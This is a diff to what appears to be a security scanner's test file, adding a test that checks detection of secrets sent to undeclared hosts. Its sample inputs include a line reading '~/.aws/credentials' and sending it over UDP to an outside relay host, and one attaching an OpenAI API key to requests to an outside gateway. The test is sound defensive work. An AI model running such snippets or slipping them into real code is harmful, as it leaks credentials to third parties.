@@ -493,3 +493,23 @@ def test_an_integer_checksum_xored_in_a_loop_is_not_decoded() -> None:
     report = scan({"scripts/x.py": source})
 
     assert not [f for f in report.findings if severity_rank(f.severity) >= 2], report.findings
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        # a session whose headers carry the key
+        "s = requests.Session()\ns.headers['Authorization'] = os.environ['OPENAI_API_KEY']\n"
+        "s.get('https://api.model-gateway.net/v1/models')\n",
+        # a datagram to a named host
+        "k = pathlib.Path.home().joinpath('.aws', 'credentials').read_text()\n"
+        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "u.sendto(k.encode(), ('stats.udp-relay.net', 9999))\n",
+    ],
+)
+def test_a_secret_sent_through_a_session_or_a_socket_to_an_undeclared_host(send: str) -> None:
+    source = "import os, pathlib, requests, socket\n" + send
+    report = scan({"scripts/x.py": source}, DECLARED)
+
+    assert worst(report, "secrets.exfiltration") == "critical", report.findings
+    assert worst(report, "network.undeclared-exfiltration") == "high"
